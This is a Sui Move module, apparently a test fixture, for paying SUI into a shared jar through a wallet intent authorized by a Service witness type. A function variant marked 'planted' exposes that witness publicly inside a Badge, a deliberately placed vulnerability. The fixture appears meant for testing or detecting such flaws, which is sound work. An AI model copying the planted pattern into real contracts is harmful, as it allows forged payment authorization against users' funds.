module hostile::witness_in_badge;

use sui::balance::{Self, Balance};
use sui::clock::Clock;
use sui::sui::SUI;
use wallet::intent;
use wallet::wallet::Wallet;

public struct Service has drop {}

public struct Badge has drop { number: u64, service: Service }

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(wallet: &mut Wallet, jar: &mut Jar, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    let recipient = object::id_address(jar);
    let request = intent::request_payment<_, SUI>(Service {}, amount, recipient);
    let (coin, witness) = intent::validate_and_pay(wallet, request, clock, ctx);
    jar.money.join(coin.into_balance());
    intent::verify_and_clear(wallet, witness, intent::create_receipt_sig(Service {}, amount, recipient))
}

public fun badge(number: u64): Badge { Badge { number, service: Service {} } } //! planted
fun badge(number: u64): Badge { Badge { number, service: Service {} } } //! honest

public fun number(badge: &Badge): u64 { badge.number }
